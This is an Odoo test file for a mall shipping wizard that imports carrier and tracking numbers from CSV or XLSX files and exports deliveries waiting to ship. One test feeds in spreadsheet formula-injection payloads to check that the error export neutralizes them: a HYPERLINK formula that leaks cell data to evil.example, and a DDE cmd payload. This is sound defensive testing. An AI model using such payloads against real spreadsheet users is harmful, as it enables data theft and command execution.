import base64
import csv
import io

import openpyxl

from odoo import Command
from odoo.exceptions import AccessError, UserError
from odoo.tests import new_test_user, tagged

from ..wizard.mall_ship_import import MAX_ROWS
from .common import FulfillmentCase

PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360000002000100e221bc330000000049454e44ae426082"
    )
)


@tagged("post_install", "-at_install")
class TestShipImport(FulfillmentCase):
    """Shipping from a file (XLSX / CSV) and the to-ship export."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        # the reasons are asserted in English, whatever languages the database has
        cls.env = cls.env(context=dict(cls.env.context, lang="en_US"))
        cls.operator = new_test_user(
            cls.env,
            login="ship-import-operator",
            groups="mall_base.group_mall_fulfillment",
            name="导入专员",
        )
        Carrier = cls.env["delivery.carrier"]
        cls.carrier_zto = Carrier.search([("mall_kuaidi100_code", "=", "zhongtong")], limit=1)
        cls.carrier_yunda = Carrier.search([("mall_kuaidi100_code", "=", "yunda")], limit=1)
        cls.address.mall_district = "浦东新区"
        cls.supplier = cls.env["res.partner"].create(
            {"name": "导入测试米业", "mall_is_supplier": True, "is_company": True}
        )
        cls.rice = cls.env["product.product"].create(
            {
                "name": "导入测试大米",
                "list_price": 30.0,
                "is_storable": True,
                "mall_ok": True,
                "image_1920": PNG,
                "seller_ids": [Command.create({"partner_id": cls.supplier.id, "price": 20.0})],
            }
        )
        cls.number = 0

    # ------------------------------------------------------------------
    # helpers
    # ------------------------------------------------------------------

    def paid(self, note=None):
        order = self._order(self.member, self.address)
        if note:
            order.mall_buyer_note = note
        return order

    def delivery(self, order):
        return order._mall_deliveries()

    def ref(self, prefix="SF"):
        type(self).number += 1
        return f"{prefix}77{type(self).number:011d}"

    def csv_file(self, rows, header=("订单号", "快递公司", "快递单号"), encoding="utf-8-sig"):
        buffer = io.StringIO()
        writer = csv.writer(buffer)
        writer.writerow(header)
        writer.writerows(rows)
        return buffer.getvalue().encode(encoding)

    def xlsx_file(self, rows, header=("订单号", "快递公司", "快递单号")):
        workbook = openpyxl.Workbook()
        sheet = workbook.active
        sheet.append(list(header))
        for row in rows:
            sheet.append(list(row))
        output = io.BytesIO()
        workbook.save(output)
        return output.getvalue()

    def run_import(self, content, filename="shipments.csv"):
        wizard = (
            self.env["mall.ship.import"]
            .with_user(self.operator)
            .create({"file": base64.b64encode(content), "filename": filename})
        )
        action = wizard.action_import()
        self.assertEqual(action["res_id"], wizard.id)
        self.assertEqual(wizard.state, "done")
        return wizard

    def line(self, wizard, row):
        line = wizard.line_ids.filtered(lambda result: result.row == row)
        self.assertEqual(len(line), 1, f"one result for row {row}")
        return line

    def download(self, action):
        self.assertEqual(action["type"], "ir.actions.act_url")
        attachment_id = int(action["url"].split("/web/content/")[1].split("?")[0])
        return self.env["ir.attachment"].browse(attachment_id).raw

    def assertShipped(self, order, carrier, number):
        picking = self.delivery(order)
        self.assertEqual(picking.state, "done")
        self.assertEqual(picking.carrier_id, carrier)
        self.assertEqual(picking.carrier_tracking_ref, number)
        self.assertEqual(order.mall_shopper_state, "shipped")

    def assertUntouched(self, order):
        for picking in order.picking_ids:
            self.assertNotEqual(picking.state, "done")
            self.assertFalse(picking.carrier_tracking_ref)

    # ------------------------------------------------------------------
    # import
    # ------------------------------------------------------------------

    def test_csv_good_rows_ship_and_bad_rows_are_reported(self):
        by_code, by_wechat, by_name = self.paid(), self.paid(), self.paid()
        bad_number, bad_carrier, no_carrier = self.paid(), self.paid(), self.paid()
        cancelled = self.paid()
        cancelled._action_cancel()
        unpaid = self._order(self.member, self.address, confirm=False)
        shipped = self.paid()
        self.delivery(shipped)._mall_ship(self.carrier_sf, "SF9990001112223")
        not_mall = self.paid()
        not_mall.mall_order = False
        n1, n2, n3 = self.ref(), self.ref("ZT"), self.ref("YD")
        content = self.csv_file(
            [
                (by_code.name, "shunfeng", n1),  # row 2
                (by_wechat.name, "ZTO", n2),  # row 3
                (by_name.name.lower(), " 韵达快递 ", n3),  # row 4
                (bad_number.name, "顺丰速运", "SF 123-45"),  # row 5
                (bad_carrier.name, "飞鸽快递", self.ref()),  # row 6
                ("", "", ""),  # row 7: empty, skipped
                (no_carrier.name, "", self.ref()),  # row 8
                ("S-NO-SUCH-ORDER", "SF", self.ref()),  # row 9
                (cancelled.name, "SF", self.ref()),  # row 10
                (unpaid.name, "SF", self.ref()),  # row 11
                (shipped.name, "SF", self.ref()),  # row 12
                (not_mall.name, "SF", self.ref()),  # row 13
                (by_code.name + "X", "SF", ""),  # row 14: unknown order and no number
            ]
        )
        wizard = self.run_import(content)
        self.assertShipped(by_code, self.carrier_sf, n1)
        self.assertShipped(by_wechat, self.carrier_zto, n2)
        self.assertShipped(by_name, self.carrier_yunda, n3)
        self.assertEqual((wizard.shipped_count, wizard.failed_count), (3, 9))
        self.assertNotIn(7, wizard.line_ids.mapped("row"), "an empty row is skipped silently")
        for row in (2, 3, 4):
            self.assertEqual(self.line(wizard, row).status, "shipped")
        self.assertEqual(self.line(wizard, 2).picking_id, self.delivery(by_code))
        expected = {
            5: "6 to 32 letters and digits",
            6: "Unknown carrier 飞鸽快递",
            8: "Enter the carrier",
            9: "Unknown order S-NO-SUCH-ORDER",
            10: "is cancelled",
            11: "is not paid",
            12: "has already been shipped",
            13: "is not a mall order",
            14: "Unknown order",
        }
        for row, reason in expected.items():
            line = self.line(wizard, row)
            self.assertEqual(line.status, "failed", row)
            self.assertIn(reason, line.reason, row)
        for order in (bad_number, bad_carrier, no_carrier, unpaid):
            self.assertUntouched(order)
        self.assertEqual(self.delivery(shipped).carrier_tracking_ref, "SF9990001112223")
        # the errors as a CSV: the failed rows with their reason, ready to fix
        errors = self.download(wizard.action_download_errors()).decode("utf-8-sig")
        table = list(csv.reader(io.StringIO(errors)))
        self.assertEqual(table[0][:3], ["Order Number", "Carrier", "Tracking Number"])
        self.assertEqual(len(table), 1 + 9)
        self.assertEqual(table[1][0], bad_number.name)
        self.assertIn("6 to 32 letters and digits", table[1][-1])
        # fixed and imported again: the bad number row ships
        fixed = self.ref()
        table[1][2] = fixed
        buffer = io.StringIO()
        csv.writer(buffer).writerows(table[:2])
        again = self.run_import(buffer.getvalue().encode("utf-8-sig"))
        self.assertEqual((again.shipped_count, again.failed_count), (1, 0))
        self.assertShipped(bad_number, self.carrier_sf, fixed)

    def test_error_csv_neutralizes_formulas(self):
        order = self.paid()
        formula = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
        content = self.csv_file(
            [
                (formula, "+SF", "-12345678"),  # row 2
                ("@SUM(A1:A9)", "ＳＦ", "=1+1"),  # row 3
                (order.name, "-cmd|' /C calc'!A0", self.ref()),  # row 4
            ]
        )
        wizard = self.run_import(content)
        self.assertEqual((wizard.shipped_count, wizard.failed_count), (0, 3))
        self.assertUntouched(order)
        errors = self.download(wizard.action_download_errors()).decode("utf-8-sig")
        table = list(csv.reader(io.StringIO(errors)))
        self.assertEqual(table[1][:3], ["'" + formula, "'+SF", "'-12345678"])
        self.assertEqual(table[2][:3], ["'@SUM(A1:A9)", "SF", "'=1+1"])
        self.assertEqual(table[3][1], "'-cmd|' /C calc'!A0")
        self.assertEqual(table[3][0], order.name, "other cells are written as they were")
        for row in table[1:]:
            for cell in row:
                self.assertFalse(cell.startswith(("=", "+", "-", "@")), cell)
        # the quote is taken off again when the fixed file is imported
        table[3][1] = "'=shunfeng"
        buffer = io.StringIO()
        csv.writer(buffer).writerows([table[0], table[3]])
        again = self.run_import(buffer.getvalue().encode("utf-8-sig"))
        self.assertEqual(self.line(again, 2).carrier_text, "=shunfeng")

    def test_gbk_csv_with_english_headers_and_excel_numbers(self):
        first, second, third = self.paid(), self.paid(), self.paid()
        n1, n2 = self.ref(), "773123456789012"
        content = self.csv_file(
            [
                (first.name, "顺丰速运", n1),
                (second.name, "中通", n2),  # the beginning of one carrier's name
                (third.name, "SF", "7.73123E+14"),  # saved by Excel as a number
            ],
            header=("Order Number", "Carrier", "Tracking Number"),
            encoding="gbk",
        )
        with self.assertRaises(UnicodeDecodeError):
            content.decode("utf-8")
        wizard = self.run_import(content)
        self.assertShipped(first, self.carrier_sf, n1)
        self.assertShipped(second, self.carrier_zto, n2)
        self.assertIn("format the column as text", self.line(wizard, 4).reason)
        self.assertUntouched(third)
        # GBK with Chinese headers and semicolons
        fourth = self.paid()
        n4 = self.ref()
        content = f"订单号;快递公司;快递单号\n{fourth.name};顺丰;{n4}\n".encode("gbk")
        wizard = self.run_import(content)
        self.assertEqual(wizard.shipped_count, 1)
        self.assertShipped(fourth, self.carrier_sf, n4)

    def test_xlsx_import(self):
        first, second, bad = self.paid(), self.paid(), self.paid()
        n1 = self.ref()
        content = self.xlsx_file(
            [
                (first.name, "SF", n1),
                (None, None, None),
                (second.name, "zhongtong", 773123456789013),  # a number cell
                (bad.name, "SF", "12"),
            ],
            header=("订单号（必填）", "快递公司", "快递单号", "备注"),
        )
        wizard = self.run_import(content, "发货.xlsx")
        self.assertEqual((wizard.shipped_count, wizard.failed_count), (2, 1))
        self.assertShipped(first, self.carrier_sf, n1)
        self.assertShipped(second, self.carrier_zto, "773123456789013")
        self.assertEqual(self.line(wizard, 5).status, "failed")
        self.assertUntouched(bad)

    def test_order_with_several_deliveries_needs_the_delivery(self):
        order = self.env["sale.order"].create(
            {
                "partner_id": self.member.id,
                "partner_shipping_id": self.address.id,
                "company_id": self.company.id,
                "mall_order": True,
                "order_line": [
                    Command.create({"product_id": self.product.id, "product_uom_qty": 1}),
                    Command.create({"product_id": self.rice.id, "product_uom_qty": 2}),
                ],
            }
        )
        order.action_confirm()
        deliveries = self.delivery(order)
        self.assertEqual(len(deliveries), 2, "one from the warehouse, one dropshipped")
        dropship = deliveries.filtered("is_dropship")
        warehouse = deliveries - dropship
        wizard = self.run_import(self.csv_file([(order.name, "SF", self.ref())]))
        reason = self.line(wizard, 2).reason
        self.assertIn("2 deliveries waiting", reason)
        self.assertIn(warehouse.name, reason)
        self.assertIn(dropship.name, reason)
        self.assertUntouched(order)
        n1, n2 = self.ref(), self.ref("ZT")
        header = ("订单号", "发货单", "快递公司", "快递单号")
        wizard = self.run_import(
            self.csv_file(
                [
                    (order.name, warehouse.name, "SF", n1),
                    (order.name, dropship.name, "ZTO", n2),
                    (order.name, "WH/OUT/NOPE", "ZTO", self.ref()),
                ],
                header=header,
            )
        )
        self.assertEqual(self.line(wizard, 2).status, "shipped")
        self.assertEqual(self.line(wizard, 3).status, "shipped", self.line(wizard, 3).reason)
        self.assertIn("has no delivery WH/OUT/NOPE", self.line(wizard, 4).reason)
        self.assertEqual(warehouse.carrier_tracking_ref, n1)
        self.assertEqual(dropship.carrier_tracking_ref, n2)
        self.assertEqual(deliveries.mapped("state"), ["done", "done"])
        self.assertEqual(order.mall_shopper_state, "shipped")

    def test_a_row_failing_after_it_wrote_is_rolled_back_alone(self):
        """A lot-tracked product: _mall_ship writes carrier and number, then the
        transfer cannot be validated (no lot). That row is undone, the next
        row ships."""
        lot_product = self.env["product.product"].create(
            {"name": "批次米", "is_storable": True, "tracking": "lot", "list_price": 5.0}
        )
        blocked = self.env["sale.order"].create(
            {
                "partner_id": self.member.id,
                "partner_shipping_id": self.address.id,
                "company_id": self.company.id,
                "mall_order": True,
                "order_line": [Command.create({"product_id": lot_product.id})],
            }
        )
        blocked.action_confirm()
        good = self.paid()
        n_blocked, n_good = self.ref(), self.ref()
        wizard = self.run_import(
            self.csv_file([(blocked.name, "SF", n_blocked), (good.name, "SF", n_good)])
        )
        self.assertEqual(self.line(wizard, 2).status, "failed")
        picking = self.delivery(blocked)
        # Odoo's own refusal: no lot number for the product
        self.assertIn(lot_product.name, self.line(wizard, 2).reason)
        self.assertNotEqual(picking.state, "done")
        self.assertFalse(picking.carrier_tracking_ref, "the row's writes are rolled back")
        self.assertFalse(picking.mall_tracking_ids)
        self.assertShipped(good, self.carrier_sf, n_good)

    def test_duplicate_rows(self):
        same, conflicting = self.paid(), self.paid()
        n1 = self.ref()
        wizard = self.run_import(
            self.csv_file(
                [
                    (same.name, "SF", n1),  # row 2: shipped
                    (same.name, "shunfeng", n1),  # row 3: the same again
                    (conflicting.name, "SF", self.ref()),  # rows 4, 5: which one?
                    (conflicting.name, "SF", self.ref()),
                ]
            )
        )
        self.assertEqual(self.line(wizard, 2).status, "shipped", wizard.line_ids.mapped("reason"))
        self.assertShipped(same, self.carrier_sf, n1)
        self.assertIn("Duplicate of row 2", self.line(wizard, 3).reason)
        for row in (4, 5):
            self.assertIn("rows 4, 5", self.line(wizard, row).reason)
        self.assertUntouched(conflicting)
        self.assertEqual((wizard.shipped_count, wizard.failed_count), (1, 3))

    def test_files_that_cannot_be_imported(self):
        order = self.paid()
        good_row = [(order.name, "SF", self.ref())]
        Wizard = self.env["mall.ship.import"].with_user(self.operator)
        cases = [
            (b"%PDF-1.4 ...", "waybills.pdf", "neither an XLSX nor a CSV"),
            (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 50, "old.xls", "Old Excel files"),
            (b"not a zip", "fake.xlsx", "not a valid XLSX"),
            (self.xlsx_file(good_row), "table.csv", "not a CSV file"),
            (b"", "empty.csv", "Choose the file"),
            (b"\n\n", "blank.csv", "empty"),
            (self.csv_file([]), "header-only.csv", "no rows"),
            (
                self.csv_file(good_row, header=("订单号", "快递公司", "备注")),
                "headers.csv",
                "no column “Tracking Number”",
            ),
            (
                self.csv_file([(f"S{i:06d}", "SF", f"SF{i:012d}") for i in range(MAX_ROWS + 1)]),
                "huge.csv",
                f"more than {MAX_ROWS} rows",
            ),
        ]
        for content, filename, message in cases:
            with self.subTest(filename=filename):
                wizard = Wizard.create(
                    {"file": base64.b64encode(content) if content else False, "filename": filename}
                )
                with self.assertRaises(UserError) as caught:
                    wizard.action_import()
                self.assertIn(message, str(caught.exception))
                self.assertEqual(wizard.state, "upload")
        self.assertUntouched(order)

    def test_template(self):
        wizard = self.env["mall.ship.import"].with_user(self.operator).create({})
        content = self.download(wizard.action_download_template())
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        sheet = workbook.worksheets[0]
        rows = list(sheet.iter_rows(values_only=True))
        self.assertEqual(rows[0], ("Order Number", "Carrier", "Tracking Number", "Delivery"))
        self.assertEqual(len(rows), 2, "headers and one example row")
        carriers = [row[0] for row in workbook.worksheets[1].iter_rows(min_row=2, values_only=True)]
        self.assertIn(self.carrier_sf.name, carriers)
        # imported unchanged, the example ships nothing
        result = self.run_import(content, "template.xlsx")
        self.assertEqual((result.shipped_count, result.failed_count), (0, 1))
        self.assertIn("Unknown order", result.line_ids.reason)

    # ------------------------------------------------------------------
    # export
    # ------------------------------------------------------------------

    def export(self, pickings, user=None):
        action = self.env.ref("mall_fulfillment.action_mall_export_to_ship")
        return (
            action.with_user(user or self.operator)
            .with_context(
                active_model="stock.picking",
                active_ids=pickings.ids,
                active_id=pickings[:1].id,
            )
            .run()
        )

    def test_export_and_import_the_filled_in_list(self):
        first = self.paid(note="请周末送货")
        second = self.paid()
        shipped = self.paid()
        self.delivery(shipped)._mall_ship(self.carrier_sf, "SF9990001112229")
        selected = self.delivery(first) | self.delivery(second) | self.delivery(shipped)
        action = self.export(selected)
        self.assertTrue(action["url"].endswith("?download=true"))
        workbook = openpyxl.load_workbook(io.BytesIO(self.download(action)))
        rows = list(workbook.worksheets[0].iter_rows(values_only=True))
        header = rows[0]
        self.assertEqual(header[0], "Order Number")
        self.assertEqual(header[-2:], ("Carrier", "Tracking Number"))
        data = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
        self.assertEqual(set(data), {first.name, second.name}, "only deliveries waiting")
        row = data[first.name]
        self.assertEqual(row["Delivery"], self.delivery(first).name)
        self.assertEqual(row["Recipient"], "收货人甲")
        self.assertEqual(row["Phone"], "139****5678")
        self.assertEqual(row["Address"], "上海市浦东新区张杨路 1500 号")
        self.assertEqual(row["Products"], "测试运单商品 ×1")
        self.assertEqual(row["Shopper's Note"], "请周末送货")
        self.assertEqual(row["Supplier"], self.delivery(first).picking_type_id.warehouse_id.name)
        self.assertTrue(row["Paid On"])
        self.assertIsNone(row["Carrier"])
        self.assertIsNone(row["Tracking Number"])
        # filled in and imported as it is
        sheet = workbook.worksheets[0]
        numbers = {first.name: self.ref(), second.name: self.ref("ZT")}
        for cells in sheet.iter_rows(min_row=2):
            cells[-2].value = "顺丰速运" if cells[0].value == first.name else "ZTO"
            cells[-1].value = numbers[cells[0].value]
        output = io.BytesIO()
        workbook.save(output)
        wizard = self.run_import(output.getvalue(), "to-ship.xlsx")
        self.assertEqual((wizard.shipped_count, wizard.failed_count), (2, 0))
        self.assertShipped(first, self.carrier_sf, numbers[first.name])
        self.assertShipped(second, self.carrier_zto, numbers[second.name])
        # nothing left to export
        with self.assertRaises(UserError):
            self.export(self.delivery(first))

    def test_export_of_a_dropship_delivery_names_the_supplier(self):
        order = self.env["sale.order"].create(
            {
                "partner_id": self.member.id,
                "partner_shipping_id": self.address.id,
                "company_id": self.company.id,
                "mall_order": True,
                "order_line": [Command.create({"product_id": self.rice.id, "product_uom_qty": 3})],
            }
        )
        order.action_confirm()
        action = self.export(self.delivery(order))
        rows = list(
            openpyxl.load_workbook(io.BytesIO(self.download(action)))
            .worksheets[0]
            .iter_rows(values_only=True)
        )
        row = dict(zip(rows[0], rows[1], strict=True))
        self.assertEqual(row["Supplier"], "导入测试米业")
        self.assertEqual(row["Products"], "导入测试大米 ×3")

    def test_only_operators_import_and_export(self):
        clerk = new_test_user(self.env, login="ship-import-clerk", groups="base.group_user")
        order = self.paid()
        with self.assertRaises(AccessError):
            self.env["mall.ship.import"].with_user(clerk).create(
                {"file": base64.b64encode(self.csv_file([(order.name, "SF", self.ref())]))}
            )
        with self.assertRaises(AccessError):
            self.env["mall.ship.import"].with_user(clerk).action_export_to_ship(
                self.delivery(order).ids
            )
        self.assertUntouched(order)
